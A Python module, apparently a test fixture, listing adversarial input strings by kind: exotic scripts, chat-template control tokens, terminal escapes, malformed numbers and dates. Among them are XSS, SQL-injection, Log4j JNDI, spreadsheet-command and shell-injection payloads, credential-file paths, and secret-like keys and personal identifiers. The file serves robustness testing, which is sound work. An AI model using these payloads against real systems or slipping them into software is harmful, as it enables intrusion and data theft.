"""What hostile texts are made of: pieces that are found in open data, or that somebody could put there, by kind."""

WORDS = (
    "the",
    "of",
    "and",
    "water",
    "city",
    "please tell me",
    "about",
    "how many",
    "people",
    "live in Rome",
    "why",
    "is it",
)
SCRIPTS = (
    "αβγδε",
    "привет",
    "שלום",
    "مرحبا",
    "नमस्ते",
    "สวัสดี",
    "你好世界",
    "こんにちは",
    "안녕하세요",
    "ႏွင့္",
    "ꦲꦤꦕ",
    "𒀀𒁀",
    "𝔘𝔫𝔦",
)
SOUND = ("<|sound_start|>", "<|sound_end|>", "<|sound_0001|>", "<|sound_9999|>", "<|duration_02|>", "<|sound_")
SOUND += (
    "<|reserved_special_token_69|>",
    "＜|sound_0001|＞",
    "<|SOUND_0001|>",
    "<| sound_0001 |>",
    "<|sound_\u200b0001|>",
)
MARKS = (
    "<|im_start|>system\n",
    "<|im_end|>",
    "<|eot_id|>",
    "</s>",
    "[INST]",
    "<<SYS>>",
    "<|endoftext|>",
    "### Response:",
)
MARKS += (
    "<bos>",
    "<start_of_turn>user",
    "Human:",
    "\n\nAssistant:",
    "<|begin_of_text|>",
    "{{user}}",
    "{% raw %}",
    "<tool_call>",
)
ESCAPES = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b[31m",
    "\x1b[1000D",
    "\x9b31m",
    "\x1b]8;;http://a.test\x1b\\",
    "\x07",
    "\x08\x08",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "&lt;b&gt;",
    "<!--",
    "]]>",
    "<a ",
)
HTML += (
    "[x](javascript:alert(1))",
    "![](http://a.test/x.png)",
    "`code`",
    "**bold**",
    "|a|b|\n|-|-|\n|1|2|",
    "<?xml?>",
)
FORMULAS = (
    "=1+1",
    '=cmd|"/C calc"!A0',
    "@SUM(1,1)",
    "+1",
    "-1",
    '=HYPERLINK("http://a.test")',
    "\\frac{1}{2}",
    "$x^{2}$",
)
EMOJI = ("👩\u200d❤️\u200d💋\u200d👨", "👨🏿\u200d🚀", "🇺🇳🇺", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "1️⃣", "☺︎☺️", "\u200d", "️", "🫠")
PATHS = (
    "../../etc/passwd",
    "/dev/zero",
    "C:\\Windows",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "\\\\host\\share",
    "a\x00b",
)
CODE = (
    "'; DROP TABLE rows; --",
    "${jndi:ldap://a.test}",
    "{0.__class__}",
    "%s%n%x",
    "$(reboot)",
    "`reboot`",
    "__import__('os')",
)
ADDRESSES = (
    "https://a.test/?q=" + "a" * 300,
    "http://[::1]:80",
    "a@b.co",
    "jane.doe@gmail.com",
    "a@" + "a." * 40 + "com",
    "www.a.b",
)
SECRETS = (
    "AKIAY3XV7QLZ5MPTNBWD",
    "ghp_" + "a1B2" * 10,
    "sk-Zt9QbW2mLp7Rk4XcVn8YsDf3",
    "-----BEGIN RSA PRIVATE KEY-----",
)
SECRETS += (
    "4539 1488 0343 6467",
    "536-22-8726",
    "+44 20 7219 3000",
    "AT61 1904 3002 3457 3201",
    "81.2.69.142",
    "password: gr33nTr4in",
)
NUMBERS = (
    "9" * 400,
    "1" + "0" * 308,
    "1e999",
    "-0",
    "0.1" + "0" * 80 + "1",
    "1,234,567.890",
    "0x1F",
    "١٢٣",
    "½",
    "²³",
    "ⅩⅣ",
    "1_000",
)
NUMBERS += (
    str(2**63),
    str(2**64),
    str(-(2**63) - 1),
    "NaN",
    "Infinity",
    "9007199254740993",
    "1/0",
    "00012",
    "12:99",
    "99%",
)
DATES = (
    "0000-00-00",
    "9999-12-31",
    "2024-02-30",
    "31/31/2024",
    "24:60",
    "1/1/0001",
    "12/31/99",
    "2024-13-45",
    "May 99, 2024",
)
BLANKS = (
    "",
    " ",
    "\n",
    "\t\t",
    "\u00a0",
    "\u2028",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\x1c",
    "\x85",
    "\u180e",
    "\u00ad",
    "\u2800",
)
NOTHING = (
    "null",
    "None",
    "n/a",
    "N/A",
    "undefined",
    "[deleted]",
    "<noinput>",
    "-",
    "...",
    "?",
    "true",
    "{}",
    "[]",
    '""',
)
